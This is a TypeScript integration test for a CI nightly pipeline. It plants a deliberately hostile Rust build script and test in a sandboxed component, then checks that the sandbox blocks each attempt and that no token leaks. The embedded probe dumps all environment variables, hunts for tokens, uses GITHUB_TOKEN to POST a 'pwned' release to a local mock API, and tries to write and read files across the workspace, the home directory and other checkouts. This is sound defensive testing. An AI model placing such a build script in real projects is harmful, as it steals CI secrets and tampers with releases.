import { readdir, readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Pipeline, ORCHESTRATOR_REPOSITORY, startPipeline } from '@bllvm/demo';
import { addCommit } from '@bllvm/sandbox';

// A component commit whose build script and integration test do what a malicious contributor
// would: read every secret, call the GitHub API with the release token, reach the network, write
// into the orchestrator's workspace, the runner's home and the other checkouts. The nightly runs
// it with real-looking tokens in its environment, as the workflows would. Nothing it tries may
// work, and nothing it printed may hold a token, anywhere a person or the cache could read it.

let p: Pipeline;
const ORCHESTRATOR_TOKEN = `ghp_${'Zx9'.repeat(12)}`;
const ATTEMPTS = ['env-token', 'net', 'api-release', 'write-workspace', 'write-home', 'write-own-source', 'write-other-checkout', 'read-workspace', 'read-home'];

/** The probe, as Rust: one line per attempt, `<name> true|false`, plus the whole environment it sees. */
function probe(ws: string, apiPort: string, report: string): string {
  return `fn probe() {
    use std::io::{Read, Write};
    let mut out = String::new();
    let mut env_token = false;
    for (k, v) in std::env::vars() {
        out.push_str(&format!("env {}={}\\n", k, v));
        if k.contains("TOKEN") || v.starts_with("ghp_") || v.starts_with("local-") { env_token = true; }
    }
    out.push_str(&format!("env-token {}\\n", env_token));
    let addr: std::net::SocketAddr = "127.0.0.1:${apiPort}".parse().unwrap();
    let net = std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(2));
    let mut released = false;
    if let Ok(mut s) = net.as_ref().map(|s| s.try_clone().unwrap()) {
        let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
        let body = "{\\"tag_name\\":\\"pwned\\"}";
        let req = format!("POST /repos/${ORCHESTRATOR_REPOSITORY}/releases HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nAuthorization: token {}\\r\\nContent-Type: application/json\\r\\nContent-Length: {}\\r\\nConnection: close\\r\\n\\r\\n{}", token, body.len(), body);
        let _ = s.write_all(req.as_bytes());
        let mut answer = String::new();
        let _ = s.read_to_string(&mut answer);
        released = answer.starts_with("HTTP/1.1 201");
    }
    out.push_str(&format!("net {}\\n", net.is_ok()));
    out.push_str(&format!("api-release {}\\n", released));
    out.push_str(&format!("write-workspace {}\\n", std::fs::write("${ws}/PWNED", b"x").is_ok()));
    out.push_str(&format!("write-home {}\\n", std::fs::write("${homedir()}/PWNED-by-build", b"x").is_ok()));
    // Under \`cargo package\` the crate builds from its packaged copy in the target dir (which cargo
    // refuses to see modified); the source to keep unwritten there is its checkout.
    let own = env!("CARGO_MANIFEST_DIR");
    let own = if own.contains("/target/package/") { "/src/bllvm-protocol" } else { own };
    out.push_str(&format!("write-own-source {}\\n", std::fs::write(format!("{}/PWNED", own), b"x").is_ok()));
    out.push_str(&format!("write-other-checkout {}\\n", std::fs::write("/src/bllvm-consensus/PWNED", b"x").is_ok() || std::fs::write("${ws}/.bllvm/sources/bllvm-consensus/PWNED", b"x").is_ok()));
    out.push_str(&format!("read-workspace {}\\n", std::fs::read_to_string("${ws}/apps/bllvm/pin.toml").is_ok()));
    out.push_str(&format!("read-home {}\\n", std::fs::read_dir("${homedir()}").is_ok()));
    for line in out.lines() { println!("cargo:warning={}", line); eprintln!("probe: {}", line); }
    let mut f = std::fs::OpenOptions::new().create(true).append(true).open(${report}).unwrap();
    f.write_all(out.as_bytes()).unwrap();
}
`;
}

async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(dir, { withFileTypes: true, recursive: true }).catch(() => [])) {
    if (e.isFile()) out.push(join(e.parentPath, e.name));
  }
  return out;
}

async function findReports(dir: string, name: string): Promise<string[]> {
  return (await filesUnder(dir)).filter((f) => f.endsWith(`/${name}`));
}

beforeAll(async () => {
  p = await startPipeline({ tag: false });
}, 600_000);

afterAll(async () => {
  await p?.stop();
});

describe('a hostile component commit run through the nightly with the release tokens set', () => {
  let out = '';
  let exitCode: number;

  beforeAll(async () => {
    const ws = p.sw.ws.dir;
    const port = new URL(p.api.url).port;
    await addCommit(p.sw.org, 'bllvm-protocol', {
      message: 'protocol: build script',
      files: {
        'build.rs': `${probe(ws, port, 'std::path::Path::new(&std::env::var("OUT_DIR").unwrap()).join("hostile-build.txt")')}\nfn main() { probe(); }\n`,
        'tests/hostile.rs': `${probe(ws, port, 'std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-test.txt")')}\n#[test]\nfn hostile() { probe(); }\n`,
      },
    });
    // What a runner's job environment holds (see .github/workflows): the release and deploy tokens.
    Object.assign(p.sw.ws.env, { ORCHESTRATOR_TOKEN, BLLVM_DEPLOY_TOKEN: p.token, RUNNER_SECRET: ORCHESTRATOR_TOKEN });
    const r = await p.sw.ws.cli('nightly', '-c', 'sandbox');
    exitCode = r.exitCode;
    out = r.stdout + r.stderr;
  }, 900_000);

  it('still builds, tests and publishes the nightly (the commit is hostile, not broken)', () => {
    expect(exitCode, out.slice(-4000)).toBe(0);
    expect(p.api.state.releases(...(ORCHESTRATOR_REPOSITORY.split('/') as [string, string])).map((r) => r.tagName)).toEqual([expect.stringMatching(/^nightly-/)]);
  });

  it('found no token, reached nothing and wrote nothing outside its target dir, in its build script and its tests', async () => {
    const target = join(p.sw.ws.dir, '.bllvm', 'target', 'bllvm-protocol');
    const reports = [...(await findReports(target, 'hostile-build.txt')), ...(await findReports(target, 'hostile-test.txt'))];
    expect(reports.map((r) => r.split('/').pop()).sort()).toEqual(expect.arrayContaining(['hostile-build.txt', 'hostile-test.txt']));
    for (const report of reports) {
      const text = await readFile(report, 'utf8');
      for (const attempt of ATTEMPTS) expect(text, `${report}: ${attempt}`).toContain(`${attempt} false`);
      expect(text).not.toMatch(new RegExp(`^(${ATTEMPTS.join('|')}) true$`, 'm'));
      expect(text).not.toMatch(/^env (GITHUB_|ORCHESTRATOR_|BLLVM_|DOCKER_HOST|RUNNER_)/m);
    }
    for (const leftover of [join(p.sw.ws.dir, 'PWNED'), join(homedir(), 'PWNED-by-build'), join(p.sw.ws.dir, '.bllvm', 'sources', 'bllvm-consensus', 'PWNED'), join(p.sw.ws.dir, '.bllvm', 'sources', 'bllvm-protocol', 'PWNED')])
      await expect(readFile(leftover), leftover).rejects.toThrow(/ENOENT/);
  });

  it('left no token in what it printed, in dist/, in Nx\'s cache and outputs, or in the API state', async () => {
    const tokens = [p.token, ORCHESTRATOR_TOKEN];
    expect(out).toContain('bllvm-protocol@0.1.0: net false'); // what the build script printed did reach the output
    for (const t of tokens) expect(out, 'CLI output').not.toContain(t);
    for (const dir of ['dist', '.nx']) {
      for (const file of await filesUnder(join(p.sw.ws.dir, dir))) {
        const bytes = await readFile(file);
        for (const t of tokens) expect(bytes.includes(t), `${file} holds a token`).toBe(false);
      }
    }
    const state = JSON.stringify(p.api.state.releases(...(ORCHESTRATOR_REPOSITORY.split('/') as [string, string])));
    for (const t of tokens) expect(state).not.toContain(t);
    expect(p.api.log().filter((e) => e.method === 'POST' && /\/releases$/.test(e.path))).toHaveLength(1); // ours only
  });
});
